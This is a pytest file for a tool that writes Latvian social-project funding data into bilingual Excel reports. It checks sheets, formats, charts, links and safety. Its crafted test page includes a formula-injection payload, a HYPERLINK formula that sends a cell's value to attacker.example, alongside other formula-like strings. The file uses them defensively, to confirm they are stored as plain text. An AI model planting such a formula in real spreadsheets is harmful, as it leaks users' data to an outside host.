@@ -1,0 +1,734 @@
+"""The Excel workbook (socreport.excel): read back with openpyxl, and converted by LibreOffice.
+
+The test tables are built by hand from real seed values (RiskChildren LLI-491, OCTOPUS LLI-425,
+Valued people LLI-550, "Atver sirdi Zemgalē!" with its amended budget, the EEA family-assistant
+project) plus one crafted input page whose text looks like formulas. The derived tables follow the
+column contract of socreport.indicators / socreport.checks.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import hashlib
+import io
+import math
+import os
+import shutil
+import subprocess
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+
+import socreport
+import socreport.checks  # noqa: F401  (registers the quality schema)
+import socreport.indicators  # noqa: F401  (registers indicators, partner_shares, aggregates)
+from socreport import excel, schemas
+from socreport.config import LVL_PER_EUR
+from socreport.tables import Tables
+
+def frame(table: str, rows: list[dict]) -> pd.DataFrame:
+    """Rows (dicts; absent columns empty) conformed to the table's schema."""
+    t = schemas.get(table)
+    data = {c.name: [r.get(c.name) for r in rows] for c in t.columns}
+    return schemas.conform(pd.DataFrame(data, columns=t.names), t)
+
+
+# --------------------------------------------------------------------------------------------
+# Seed-based test tables
+
+D0, D1, D2, D4 = "000_a6640382eac6c1fc", "001_ba819a8ab322f87d", "002_17ed4f7446dc636f", "004_49cf07e53512a167"
+EVIL = "crafted_formula_page"
+S_RISK_TOTAL = ("Projekta kopējais budžets ir 661 092.24 EUR, t.sk. 561 928.39 EUR EUR (85%) Eiropas Reģionālā "
+                "attīstības fonda (ERAF) finansējums.")
+S_RISK_JELGAVA = ("Jelgavas pilsētas pašvaldības plānotais projekta budžets ir 352 347.97 EUR, t.sk. 299 495.77 EUR (85%) "
+                  "ERAF finansējums, 17 617.40 EUR (5%) ir Valsts budžeta dotācija un 35 234.80 EUR (10%) ir "
+                  "Jelgavas valstspilsētas pašvaldības līdzfinansējums.")
+S_RISK_PERIOD = "Projekta īstenošanas laiks: no 2020.gada 1.jūlija līdz 2022. gada 30.novembrim."
+S_RISK_PARTNERS = ("Projekta īstenošanā iesaistīti 2 partneri – Jelgavas valstspilsētas pašvaldība un Šauļu pilsētas "
+                   "dome (vadošais partneris).")
+S_OCT_TOTAL = "Projekta kopējais finansējums: 705 573,37 EUR (t.sk. ERAF finansējums 599 737,33 EUR)"
+S_OCT_PERIOD = "Projekta īstenošanas laiks: 01.06.2020. – 31.05.2022. (24 mēneši)."
+S_OCT_PEOPLE = ("Projekta rezultātā jaunie un uzlabotie multifunkcionālie centri un tajos piedāvāties sociālie "
+                "pakalpojumi un iekļaušanas pasākumi Latvijas un Lietuvas reģionos kļūs pieejamāki vismaz 706 "
+                "cilvēkiem ar funkcionālajiem traucējumiem, senioriem, ģimenēm ar bērniem ar invaliditāti un bērniem, "
+                "jauniešiem, kas pakļauti riskam.")
+S_VP_TOTAL = "Projekta kopējās izmaksas  705 810,00 euro, t.sk.:"
+S_VP_PERIOD = "Projekta ilgums:    18 mēneši (01.09.2020.-30.06.2023.)"
+S_VP_USERS = "Abās pašvaldībās ieviesīs virkni jaunu sociālās iekļaušanas pasākumu un sniegs inovatīvus pakalpojumus (800 lietotāju)."
+S_VP_STAFF = ("Ar mērķi motivēt un iedvesmot sociālos darbiniekus (90), viņi saņems kvalifikācijas paaugstināšanas "
+              "mācības Daugavpilī, vēros labākās sociālās integrācijas prakses Latvijā un Lietuvā, kā arī piedalīsies "
+              "studiju vizītē Polijā un Čehijā.")
+S_ATV_NEW = ("Projekta kopējās izmaksas ir 9 412 350,00 EUR, no kuriem 85% ir ESF līdzfinansējums (8 000 497,43 EUR) "
+             "un 15% Valsts budžeta finansējums (1 411 852,57 EUR).")
+S_ATV_OLD = ("Projekta kopējais budžets ir 5 709 424.00 euro, no kura 85% finansē Eiropas Sociālais fonds, 15% ir "
+             "Valsts budžeta finansējums.")
+S_ATV_PERIOD = "Projekta ieviešanas laiks ir no 2015. gada 1. decembra līdz 2023. gada 31. decembrim."
+S_EEA = ("Projekta budžets: 90% (17 489,62 EUR) EEZ finanšu instrumenta finansējums un 10% (1990,00 EUR) Jelgavas "
+         "pilsētas pašvaldības līdzfinansējums.")
+# Crafted page: scraped text that a spreadsheet would run if it were not stored as text.
+EVIL_TITLE = '=HYPERLINK("http://attacker.example/?x="&A1,"Click for the budget")'
+EVIL_TEXTS = (EVIL_TITLE, "+1 555 0100 zvaniet", "-2 bērni palika bez vietas", "@SUM(A1:A9)", "\tcilne", "#N/A")
+
+ATV = "9.2.2.1/15/I/001"
+EEA = "2014.EEZ/PP/1/MIC/081/043"
+
+
+def seed_tables() -> Tables:
+    docs = frame("documents", [
+        {"doc_id": d, "path": f"data/raw/{d}.txt", "sha256": hashlib.sha256(d.encode()).hexdigest(),
+         "characters": n, "encoding": "utf-8", "status": "ok"}
+        for d, n in ((D0, 3290), (D1, 3757), (D2, 3631), (D4, 74112))
+    ] + [{"doc_id": EVIL, "path": f"tests/{EVIL}.html", "sha256": "ab" * 32, "characters": 120,
+          "encoding": "windows-1257", "status": "fallback", "message": "-decoded as windows-1257"},
+         {"doc_id": "empty_page", "path": "data/raw/empty_page.txt", "status": "skipped",
+          "message": "file is empty"}])
+    projects = frame("projects", [
+        {"project_id": "LLI-491", "code": "LLI-491", "acronym": "RiskChildren",
+         "title": "Sociālajam riskam pakļauto bērnu un jauniešu integrācija Jelgavas un Šauļu pilsētas pašvaldībās",
+         "programme": "Interreg V-A Latvia–Lithuania 2014–2020", "eu_fund": "ERDF", "total_budget_eur": 661092.24,
+         "eu_funding_eur": 561928.39, "eu_share_pct": 85.0, "start_date": "2020-07-01", "end_date": "2022-11-30",
+         "source_docs": D0},
+        {"project_id": "LLI-425", "code": "LLI-425", "acronym": "OCTOPUS",
+         "title": "Daudzfunkcionālo centru - vietējās kopienas sociālās iekļaušanas un izaugsmes veicinātāju attīstība",
+         "programme": "Interreg V-A Latvia–Lithuania 2014–2020", "eu_fund": "ERDF", "total_budget_eur": 705573.37,
+         "eu_funding_eur": 599737.33, "start_date": "2020-06-01", "end_date": "2022-05-31",
+         "duration_months_stated": 24, "beneficiaries": 706, "source_docs": D2},
+        {"project_id": "LLI-550", "code": "LLI-550", "acronym": "Valued people",
+         "title": "Neaizsargāto grupu sociālā iekļaušana Zarasai-Daugavpils pārrobežu reģionā, attīstot integrētu "
+                  "sociālās aprūpes tīklu",
+         "programme": "Interreg V-A Latvia–Lithuania 2014–2020", "eu_fund": "ERDF", "total_budget_eur": 705810.00,
+         "start_date": "2020-09-01", "end_date": "2023-06-30", "duration_months_stated": 18, "beneficiaries": 800,
+         "source_docs": D1},
+        {"project_id": ATV, "code": ATV, "title": "Atver sirdi Zemgalē!", "eu_fund": "ESF",
+         "total_budget_eur": 9412350.00, "eu_funding_eur": 8000497.43, "eu_share_pct": 85.0,
+         "start_date": "2015-12-01", "end_date": "2023-12-31", "source_docs": D4},
+        {"project_id": EEA, "code": EEA, "title": "Ģimenes asistenti Jelgavas pilsētā", "eu_fund": "EEA",
+         "total_budget_eur": 19479.62, "eu_funding_eur": 17489.62, "eu_share_pct": 90.0, "source_docs": D4},
+        {"project_id": "EVIL-1", "title": EVIL_TITLE, "acronym": "@SUM(A1:A9)", "start_date": "2021-05-01",
+         "end_date": "2020-01-31", "source_docs": EVIL},
+    ])
+
+    def fund(pid, scope, source, amount, pct, doc, sentence, partner=None, derived=False, orig=None, cur="EUR"):
+        return {"project_id": pid, "scope": scope, "partner": partner, "source": source, "amount_eur": amount,
+                "share_pct": pct, "amount_original": amount if orig is None else orig, "currency": cur,
+                "derived": derived, "doc_id": doc, "sentence": sentence}
+
+    funding = frame("funding", [
+        fund("LLI-491", "whole", "total", 661092.24, None, D0, S_RISK_TOTAL),
+        fund("LLI-491", "whole", "ERDF", 561928.39, 85.0, D0, S_RISK_TOTAL),
+        fund("LLI-491", "partner", "total", 352347.97, None, D0, S_RISK_JELGAVA, "Jelgavas pilsētas pašvaldība"),
+        fund("LLI-491", "partner", "ERDF", 299495.77, 85.0, D0, S_RISK_JELGAVA, "Jelgavas pilsētas pašvaldība"),
+        fund("LLI-491", "partner", "state", 17617.40, 5.0, D0, S_RISK_JELGAVA, "Jelgavas pilsētas pašvaldība"),
+        fund("LLI-491", "partner", "municipality", 35234.80, 10.0, D0, S_RISK_JELGAVA, "Jelgavas pilsētas pašvaldība"),
+        fund("LLI-425", "whole", "total", 705573.37, None, D2, S_OCT_TOTAL),
+        fund("LLI-425", "whole", "ERDF", 599737.33, None, D2, S_OCT_TOTAL),
+        fund("LLI-550", "whole", "total", 705810.00, None, D1, S_VP_TOTAL),
+        fund(ATV, "whole", "total", 9412350.00, None, D4, S_ATV_NEW),
+        fund(ATV, "whole", "ESF", 8000497.43, 85.0, D4, S_ATV_NEW),
+        fund(ATV, "whole", "state", 1411852.57, 15.0, D4, S_ATV_NEW),
+        fund(EEA, "whole", "EEA", 17489.62, 90.0, D4, S_EEA),
+        fund(EEA, "whole", "municipality", 1990.00, 10.0, D4, S_EEA),
+        fund(EEA, "whole", "total", 19479.62, None, D4, S_EEA, derived=True),
+        fund("EVIL-1", "whole", "other", 2700 / LVL_PER_EUR, None, EVIL, "-2 bērni palika bez vietas, Ls 2700",
+             orig=2700.0, cur="LVL"),
+    ])
+    partners = frame("partners", [
+        {"project_id": "LLI-491", "name": "Šauļu pilsētas dome", "role": "lead", "country": "LT", "doc_id": D0,
+         "sentence": S_RISK_PARTNERS},
+        {"project_id": "LLI-491", "name": "Jelgavas valstspilsētas pašvaldība", "role": "partner", "country": "LV",
+         "doc_id": D0, "sentence": S_RISK_PARTNERS},
+        {"project_id": "LLI-425", "name": "Zemgales Plānošanas reģions", "role": "lead", "country": "LV", "doc_id": D2,
+         "sentence": "Vadošais partneris: Zemgales Plānošanas reģions (LV), www.zemgale.lv"},
+        {"project_id": "EVIL-1", "name": "+1 555 0100 zvaniet", "role": "partner", "doc_id": EVIL,
+         "sentence": "\tcilne"},
+    ])
+    beneficiaries = frame("beneficiaries", [
+        {"project_id": "LLI-425", "count": 706, "group": "cilvēkiem", "qualifier": "at_least", "kind": "people",
+         "headline": True, "doc_id": D2, "sentence": S_OCT_PEOPLE},
+        {"project_id": "LLI-550", "count": 800, "group": "lietotāju", "qualifier": "exact", "kind": "people",
+         "headline": True, "doc_id": D1, "sentence": S_VP_USERS},
+        {"project_id": "LLI-550", "count": 90, "group": "sociālos darbiniekus", "qualifier": "exact", "kind": "staff",
+         "headline": False, "doc_id": D1, "sentence": S_VP_STAFF},
+    ])
+    facts = schemas.empty("facts")
+
+    def src(pid, field, value, doc, sentence, used=True, published=None, article=0):
+        return {"project_id": pid, "field": field, "value": value, "doc_id": doc, "sentence": sentence, "used": used,
+                "published": published, "article": article}
+
+    sources = frame("sources", [
+        src(ATV, "total_budget_eur", "9412350.00", D4, S_ATV_NEW, published="2020-12-08", article=2),
+        src("LLI-491", "total_budget_eur", "661092.24", D0, S_RISK_TOTAL),
+        src("LLI-491", "eu_funding_eur", "561928.39", D0, S_RISK_TOTAL),
+        src("LLI-491", "start_date", "2020-07-01", D0, S_RISK_PERIOD),
+        src("LLI-425", "total_budget_eur", "705573.37", D2, S_OCT_TOTAL),
+        src("LLI-425", "beneficiaries", "706", D2, S_OCT_PEOPLE),
+        src("LLI-425", "start_date", "2020-06-01", D2, S_OCT_PERIOD),
+        src("LLI-550", "total_budget_eur", "705810.00", D1, S_VP_TOTAL),
+        src("LLI-550", "duration_months_stated", "18", D1, S_VP_PERIOD),
+        src(ATV, "total_budget_eur", "5709424.00", D4, S_ATV_OLD, used=False, published="2016-03-01", article=9),
+        src(ATV, "end_date", "2023-12-31", D4, S_ATV_PERIOD, published="2020-12-08", article=2),
+        src(EEA, "total_budget_eur", "19479.62", D4, S_EEA, published="2016-04-11", article=12),
+        src("EVIL-1", "title", EVIL_TITLE, EVIL, EVIL_TITLE),
+        src("EVIL-1", "acronym", "@SUM(A1:A9)", EVIL, "+1 555 0100 zvaniet"),
+        src("EVIL-1", "start_date", "2021-05-01", EVIL, "-2 bērni palika bez vietas"),
+        src("EVIL-1", "code", "#N/A", EVIL, "#N/A", used=False),
+    ])
+    return Tables(docs, projects, funding, partners, beneficiaries, facts, sources)
+
+
+def _months(start: str, end: str) -> int:
+    s, e = dt.date.fromisoformat(start), dt.date.fromisoformat(end)
+    return (e.year - s.year) * 12 + e.month - s.month + 1
+
+
+def seed_derived(tables: Tables) -> Tables:
+    """Derived tables per the contract, computed by hand from the seed values (formulas in comments)."""
+    rows = []
+    labels = {"LLI-491": "RiskChildren", "LLI-425": "OCTOPUS", "LLI-550": "Valued people", ATV: "Atver sirdi Zemgalē!",
+              EEA: "Ģimenes asistenti Jelgavas pilsētā", "EVIL-1": "@SUM(A1:A9)"}
+    shares = {ATV: {"state_share": 1411852.57 / 9412350.00}, EEA: {"municipality_share": 1990.00 / 19479.62}}
+    for p in tables.projects.itertuples(index=False):
+        total = None if pd.isna(p.total_budget_eur) else float(p.total_budget_eur)
+        eu = None if pd.isna(p.eu_funding_eur) else float(p.eu_funding_eur)
+        start = None if pd.isna(p.start_date) else p.start_date.date().isoformat()
+        end = None if pd.isna(p.end_date) else p.end_date.date().isoformat()
+        months = _months(start, end) if start and end and end >= start else None
+        ben = None if pd.isna(p.beneficiaries) else int(p.beneficiaries)
+        cpb = total / ben if total and ben else None  # total ÷ headline beneficiaries
+        rows.append({
+            "project_id": p.project_id, "label": labels[p.project_id], "eu_fund": p.eu_fund, "programme": p.programme,
+            "start_date": start, "end_date": end, "start_year": int(start[:4]) if start else None,
+            "total_budget_eur": total, "eu_funding_eur": eu, "eu_share": eu / total if eu and total else None,
+            "eu_share_pct_stated": None if pd.isna(p.eu_share_pct) else float(p.eu_share_pct),
+            "duration_months": months, "beneficiaries": ben,
+            "duration_months_stated": None if pd.isna(p.duration_months_stated) else int(p.duration_months_stated),
+            "budget_per_month_eur": total / months if total and months else None,
+            "cost_per_beneficiary_eur": cpb,
+            "cost_per_beneficiary_per_month_eur": cpb / months if cpb and months else None,
+            **shares.get(p.project_id, {}),
+        })
+    indicators = frame("indicators", rows)
+    partner_shares = frame("partner_shares", [
+        {"project_id": "LLI-491", "partner": "Jelgavas pilsētas pašvaldība", "part_eur": 352347.97,
+         "project_total_eur": 661092.24, "share_of_total": 352347.97 / 661092.24}])
+    erdf = [661092.24, 705573.37, 705810.00]
+    aggregates = frame("aggregates", [
+        {"dimension": "fund", "group": "ERDF", "indicator": "total_budget_eur", "count": 3, "sum": sum(erdf),
+         "median": 705573.37, "min": min(erdf), "max": max(erdf)},
+        {"dimension": "fund", "group": "ERDF", "indicator": "eu_share", "count": 2, "sum": None,
+         "median": 0.85, "min": 561928.39 / 661092.24, "max": 599737.33 / 705573.37},
+        {"dimension": "start_year", "group": "2020", "indicator": "duration_months", "count": 3, "sum": 87.0,
+         "median": 29.0, "min": 24.0, "max": 34.0},
+    ])
+    quality = frame("quality", [
+        {"project_id": "LLI-550", "check": "duration_mismatch", "severity": "warning", "field": "duration_months_stated",
+         "message": "Stated duration 18 months; the dates give 34 months.",
+         "message_lv": "Norādītais ilgums 18 mēneši; pēc datumiem 34 mēneši.", "values": "18; 34",
+         "evidence": S_VP_PERIOD, "doc_ids": D1},
+        {"project_id": ATV, "check": "versions_differ", "severity": "info", "field": "total_budget_eur",
+         "message": "Two versions of the total budget: 5709424.00 (2016) and 9412350.00 (2020); the latest is used.",
+         "message_lv": "Divas kopējā budžeta versijas; izmantota jaunākā.", "values": "5709424.00; 9412350.00",
+         "evidence": S_ATV_OLD + " | " + S_ATV_NEW, "doc_ids": D4},
+        {"project_id": EEA, "check": "share_mismatch", "severity": "warning", "field": "eu_share_pct",
+         "message": "Stated EU share 90% but 17489.62 of 19479.62 is 89.8%.",
+         "message_lv": "Norādītā ES daļa 90%, bet aprēķinātā 89,8%.", "values": "90; 89.78", "evidence": S_EEA,
+         "doc_ids": D4},
+        {"project_id": "EVIL-1", "check": "end_before_start", "severity": "error", "field": "end_date",
+         "message": "End 2020-01-31 is before start 2021-05-01.", "message_lv": "Beigas ir pirms sākuma.",
+         "values": "=1+1", "evidence": "-2 bērni palika bez vietas", "doc_ids": EVIL},
+    ])
+    return tables.with_derived(indicators=indicators, partner_shares=partner_shares, aggregates=aggregates,
+                               quality=quality)
+
+
+@pytest.fixture(scope="module")
+def tables() -> Tables:
+    return seed_derived(seed_tables()).validate()
+
+
+@pytest.fixture(scope="module")
+def books(tables: Tables, tmp_path_factory) -> dict[str, Path]:
+    out = tmp_path_factory.mktemp("books")
+    return {lang: excel.write_workbook(tables, out / f"report_{lang}.xlsx", lang=lang) for lang in excel.LANGS}
+
+
+@pytest.fixture(scope="module")
+def wb_en(books):
+    return openpyxl.load_workbook(books["en"])
+
+
+@pytest.fixture(scope="module")
+def wb_lv(books):
+    return openpyxl.load_workbook(books["lv"])
+
+
+def header_map(ws) -> dict[str, int]:
+    return {c.value: c.column for c in ws[1] if c.value is not None}
+
+
+def column_values(ws, header: str) -> list:
+    col = header_map(ws)[header]
+    return [ws.cell(row=r, column=col).value for r in range(2, ws.max_row + 1)]
+
+
+def _plain(v):
+    if v is None or v is pd.NA or v is pd.NaT:
+        return None
+    if isinstance(v, float) and math.isnan(v):
+        return None
+    if isinstance(v, pd.Timestamp):
+        return v.to_pydatetime()
+    return v
+
+
+# --------------------------------------------------------------------------------------------
+# Sheets, headers, formats, values
+
+SHEETS = {
+    "en": ["Summary", "Projects", "Funding", "Partners", "Partner shares", "Beneficiaries", "Aggregates", "Quality",
+           "Sources", "Documents", "About"],
+    "lv": ["Kopsavilkums", "Projekti", "Finansējums", "Partneri", "Partneru daļas", "Labuma guvēji",
+           "Kopsavilkuma rādītāji", "Kvalitāte", "Avoti", "Dokumenti", "Par datiem"],
+}
+
+
+@pytest.mark.parametrize("lang", excel.LANGS)
+def test_sheet_names(lang, books):
+    assert openpyxl.load_workbook(books[lang]).sheetnames == SHEETS[lang]
+
+
+@pytest.mark.parametrize("lang,sheet_idx,table", [
+    (lang, i, t) for lang in excel.LANGS
+    for i, t in ((2, "funding"), (3, "partners"), (5, "beneficiaries"), (8, "sources"), (9, "documents"),
+                 (4, "partner_shares"), (6, "aggregates"), (7, "quality"))])
+def test_headers_are_schema_labels(lang, sheet_idx, table, books):
+    ws = openpyxl.load_workbook(books[lang]).worksheets[sheet_idx]
+    assert [c.value for c in ws[1]] == [schemas.label(table, n, lang) for n in schemas.get(table).names]
+
+
+@pytest.mark.parametrize("lang", excel.LANGS)
+def test_projects_headers_join_indicators(lang, books):
+    ws = openpyxl.load_workbook(books[lang]).worksheets[1]
+    headers = [c.value for c in ws[1]]
+    proj = schemas.get("projects").names
+    extra = [n for n in schemas.get("indicators").names if n not in proj]
+    expected = excel.unique_headers([schemas.label("projects", n, lang) for n in proj]
+                                    + [schemas.label("indicators", n, lang) for n in extra])
+    assert headers == expected
+    assert len(set(headers)) == len(headers)
+
+
+def _format_cases():
+    return [
+        ("Projects", "projects", "total_budget_eur", excel.EUR_FORMAT),
+        ("Projects", "projects", "eu_funding_eur", excel.EUR_FORMAT),
+        ("Projects", "projects", "eu_share_pct", excel.PERCENT_FORMAT),
+        ("Projects", "projects", "start_date", excel.DATE_FORMAT),
+        ("Projects", "projects", "end_date", excel.DATE_FORMAT),
+        ("Projects", "indicators", "eu_share", excel.SHARE_FORMAT),
+        ("Projects", "indicators", "cost_per_beneficiary_eur", excel.EUR_FORMAT),
+        ("Funding", "funding", "amount_eur", excel.EUR_FORMAT),
+        ("Funding", "funding", "share_pct", excel.PERCENT_FORMAT),
+        ("Partner shares", "partner_shares", "share_of_total", excel.SHARE_FORMAT),
+        ("Partner shares", "partner_shares", "part_eur", excel.EUR_FORMAT),
+        ("Sources", "sources", "published", excel.DATE_FORMAT),
+    ]
+
+
+@pytest.mark.parametrize("sheet,table,col,fmt", _format_cases())
+def test_number_formats(sheet, table, col, fmt, wb_en):
+    ws = wb_en[sheet]
+    cells = [ws.cell(row=r, column=header_map(ws)[schemas.label(table, col)]) for r in range(2, ws.max_row + 1)]
+    filled = [c for c in cells if c.value is not None]
+    assert filled, f"{sheet}.{col} has no values in the test tables"
+    assert {c.number_format for c in filled} == {fmt}
+    if fmt == excel.DATE_FORMAT:
+        assert all(isinstance(c.value, dt.datetime) for c in filled)
+    else:
+        assert all(isinstance(c.value, (int, float)) for c in filled)
+
+
+def test_aggregates_formatted_by_the_indicator_unit(wb_en):
+    ws = wb_en["Aggregates"]
+    ind = column_values(ws, schemas.label("aggregates", "indicator"))
+    col = header_map(ws)[schemas.label("aggregates", "median")]
+    fmts = {i: ws.cell(row=r, column=col).number_format for r, i in enumerate(ind, start=2)}
+    assert fmts == {"total_budget_eur": excel.EUR_FORMAT, "eu_share": excel.SHARE_FORMAT,
+                    "duration_months": excel.AVERAGE_FORMAT}
+
+
+@pytest.mark.parametrize("sheet,table,order", [
+    ("Projects", "projects", None), ("Funding", "funding", None), ("Partners", "partners", None),
+    ("Beneficiaries", "beneficiaries", None), ("Documents", "documents", None),
+    ("Partner shares", "partner_shares", None), ("Aggregates", "aggregates", None),
+    ("Sources", "sources", "project"), ("Quality", "quality", "severity")])
+def test_values_equal_the_tables(sheet, table, order, tables, wb_en):
+    ws = wb_en[sheet]
+    df = tables[table]
+    if order == "project":
+        df = excel.sources_frame(tables)
+    elif order == "severity":
+        df = excel.quality_frame(df)
+    assert ws.max_row == len(df) + 1
+    for name in schemas.get(table).names:
+        col = schemas.get(table).column(name)
+        got = column_values(ws, col.en)
+        want = [_plain(v) for v in df[name].tolist()]
+        if col.unit == "%":
+            want = [None if v is None else v / 100 for v in want]
+        if col.dtype == "Float64":
+            assert got == pytest.approx(want, rel=1e-12, abs=1e-12) if None not in want else \
+                [g is None for g in got] == [w is None for w in want] and all(
+                    g == pytest.approx(w, rel=1e-12) for g, w in zip(got, want) if w is not None), name
+        else:
+            assert got == want, name
+
+
+def test_projects_indicator_values(tables, wb_en):
+    ws = wb_en["Projects"]
+    got = dict(zip(column_values(ws, "Project"), column_values(ws, schemas.label("indicators", "cost_per_beneficiary_eur"))))
+    assert got["LLI-425"] == pytest.approx(705573.37 / 706)
+    assert got["LLI-550"] == pytest.approx(705810.00 / 800)
+    assert got["LLI-491"] is None  # beneficiaries not stated: empty, never zero or infinite
+    months = dict(zip(column_values(ws, "Project"), column_values(ws, schemas.label("indicators", "duration_months"))))
+    assert months["LLI-425"] == 24 and months["LLI-550"] == 34 and months["LLI-491"] == 29
+
+
+def test_frozen_header_filter_and_widths(wb_en):
+    for ws in wb_en.worksheets[1:-1]:
+        assert ws.freeze_panes == ("B2" if ws.title == "Projects" else "A2"), ws.title
+        refs = [t.ref for t in ws.tables.values()]
+        last = openpyxl.utils.get_column_letter(ws.max_column)
+        assert refs == [f"A1:{last}{ws.max_row}"], ws.title
+        widths = [ws.column_dimensions[openpyxl.utils.get_column_letter(j)].width for j in range(1, ws.max_column + 1)]
+        assert all(excel.MIN_WIDTH <= w <= excel.WRAP_WIDTH + 2 for w in widths), ws.title
+    src = wb_en["Sources"]
+    sentence = header_map(src)["Sentence"]
+    assert src.cell(row=2, column=sentence).alignment.wrap_text
+
+
+def test_empty_table_gets_autofilter_not_excel_table(tables, tmp_path):
+    t = tables.with_derived(quality=schemas.empty("quality"))
+    wb = openpyxl.load_workbook(excel.write_workbook(t, tmp_path / "q.xlsx"))
+    ws = wb["Quality"]
+    assert ws.max_row == 1 and not ws.tables and ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(ws.max_column)}1"
+
+
+def test_quality_rows_coloured_by_severity(wb_en):
+    ws = wb_en["Quality"]
+    sev = column_values(ws, schemas.label("quality", "severity"))
+    assert sev == ["error", "warning", "warning", "info"]  # errors first
+    for r, s in enumerate(sev, start=2):
+        fill, font = excel.SEVERITY_COLOURS[s]
+        for c in range(1, ws.max_column + 1):
+            assert ws.cell(row=r, column=c).fill.fgColor.rgb.endswith(fill)
+
+
+def test_project_rows_link_to_their_first_source_row(wb_en):
+    proj, src = wb_en["Projects"], wb_en["Sources"]
+    src_ids = column_values(src, "Project")
+    for r in range(2, proj.max_row + 1):
+        cell = proj.cell(row=r, column=1)
+        link = cell.hyperlink
+        assert link is not None and link.target is None, cell.value
+        sheet, ref = link.location.split("!")
+        assert sheet == "'Sources'"
+        row = int(ref[1:])
+        assert src_ids[row - 2] == cell.value
+        assert cell.value not in src_ids[: row - 2]  # the first of its rows
+
+
+def test_latvian_link_points_to_latvian_sheet(wb_lv):
+    assert wb_lv["Projekti"]["A2"].hyperlink.location.startswith("'Avoti'!A")
+
+
+# --------------------------------------------------------------------------------------------
+# Summary, charts, About
+
+
+def test_summary_headlines(wb_en):
+    ws = wb_en["Summary"]
+    heads = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2) for r in range(6, 16)}
+    assert heads["Projects"].value == 6
+    assert heads["Input documents read"].value == 5
+    total = heads["Total budget, EUR (nominal)"]
+    # Each project once in its used version; the amended 5 709 424.00 of "Atver sirdi Zemgalē!" is not added.
+    assert total.value == pytest.approx(661092.24 + 705573.37 + 705810.00 + 9412350.00 + 19479.62)
+    assert total.number_format == excel.EUR_FORMAT
+    assert heads["EU funding, EUR (nominal)"].value == pytest.approx(561928.39 + 599737.33 + 8000497.43 + 17489.62)
+    assert heads["Median cost per beneficiary, EUR"].value == pytest.approx((705573.37 / 706 + 705810.00 / 800) / 2)
+    assert heads["Findings: errors"].value == 1
+    assert heads["Findings: warnings"].value == 2
+    assert heads["Findings: for information"].value == 1
+
+
+def test_summary_has_three_native_charts(wb_en, wb_lv):
+    for wb in (wb_en, wb_lv):
+        charts = wb.worksheets[0]._charts
+        assert [c.tagname for c in charts] == ["barChart"] * 3
+        assert [c.grouping for c in charts] == ["clustered", "stacked", "stacked"]
+        assert all(c.x_axis.delete is False and c.y_axis.delete is False for c in charts)  # axes shown
+        assert all(s.cat.strRef is not None for c in charts for s in c.series)  # project names as categories
+    assert wb_en.worksheets[0]._charts[2].y_axis.number_format.formatCode == "yyyy"  # the timeline date axis
+
+
+def test_summary_charts_in_memory(tables):
+    wb = excel.build_workbook(tables)
+    charts = wb.worksheets[0]._charts
+    assert len(charts) == 3
+    cost, split, timeline = charts
+    assert len(cost.series) == 1 and len(split.series) == 4 and len(timeline.series) == 2
+    assert split.grouping == "stacked" and split.overlap == 100
+    assert timeline.series[0].graphicalProperties.noFill  # invisible start offset
+    assert timeline.y_axis.number_format.formatCode == "yyyy"
+
+
+def test_chart_data_beside_charts(tables):
+    cost = excel.cost_chart_data(tables)
+    assert cost["project_id"].tolist() == ["LLI-425", "LLI-550"]  # largest first
+    tl = excel.timeline_chart_data(tables)
+    assert tl["project_id"].tolist() == [ATV, "LLI-425", "LLI-491", "LLI-550"]  # EVIL-1 ends before it starts
+    assert tl.set_index("project_id").loc["LLI-425", "days"] == 730
+    split = excel.split_chart_data(tables)
+    assert set(split["project_id"]) == {"LLI-491", "LLI-425", ATV, EEA}
+
+
+def test_about_sheet(wb_en, tables):
+    ws = wb_en["About"]
+    cells = [c.value for row in ws.iter_rows() for c in row if c.value is not None]
+    text = "\n".join(str(v) for v in cells)
+    assert socreport.__version__ in cells
+    assert LVL_PER_EUR in cells
+    for sha in tables.documents["sha256"].dropna():
+        assert sha in cells
+    assert "nominal euro" in text and "never added together" in text and "empty cell" in text
+    # data dictionary: every column of every data sheet, with its schema description
+    entries = {(r[0], r[2]): r[4] for r in ws.iter_rows(values_only=True) if r[0] and r[2]}
+    for sheet, table in (("Funding", "funding"), ("Sources", "sources"), ("Quality", "quality"),
+                         ("Projects", "projects")):
+        for col in schemas.get(table).columns:
+            assert entries[(sheet, col.name)] == col.description_en
+    for col in schemas.get("indicators").columns:
+        if col.name not in schemas.get("projects").names:
+            assert entries[("Projects", col.name)] == col.description_en
+
+
+def test_about_in_latvian(wb_lv):
+    ws = wb_lv["Par datiem"]
+    text = "\n".join(str(c.value) for row in ws.iter_rows() for c in row if c.value is not None)
+    assert "nominālie eiro" in text and schemas.get("funding").column("amount_eur").description_lv in text
+
+
+def test_missing_derived_tables_are_omitted_and_explained(tmp_path):
+    t = seed_tables()
+    path = excel.write_workbook(t, tmp_path / "plain.xlsx")
+    wb = openpyxl.load_workbook(path)
+    assert wb.sheetnames == ["Summary", "Projects", "Funding", "Partners", "Beneficiaries", "Sources", "Documents",
+                             "About"]
+    about = "\n".join(str(c.value) for row in wb["About"].iter_rows() for c in row if c.value is not None)
+    for key in ("indicators", "partner_shares", "aggregates", "quality"):
+        assert excel.text(f"about.missing.{key}") in about
+    summary = {wb["Summary"].cell(row=r, column=1).value: wb["Summary"].cell(row=r, column=3).value
+               for r in range(6, 16)}
+    assert summary["Median cost per beneficiary, EUR"] == excel.text("h.not_computed")
+    assert len(excel.build_workbook(t).worksheets[0]._charts) == 1  # only the timeline
+    assert [c.value for c in wb["Projects"][1]] == [schemas.label("projects", n) for n in schemas.get("projects").names]
+
+
+def test_empty_tables_do_not_crash(tmp_path):
+    wb = openpyxl.load_workbook(excel.write_workbook(Tables.empty(), tmp_path / "empty.xlsx", lang="lv"))
+    assert wb.sheetnames[0] == "Kopsavilkums" and wb["Projekti"].max_row == 1
+
+
+# --------------------------------------------------------------------------------------------
+# Safety
+
+
+def _all_string_cells(wb):
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                if isinstance(c.value, str):
+                    yield ws.title, c
+
+
+@pytest.mark.parametrize("crafted", EVIL_TEXTS)
+def test_formula_like_text_is_stored_as_text(crafted, wb_en):
+    hits = [(t, c) for t, c in _all_string_cells(wb_en) if c.value == crafted]
+    assert hits, crafted
+    for _, c in hits:
+        assert c.data_type == "s"
+
+
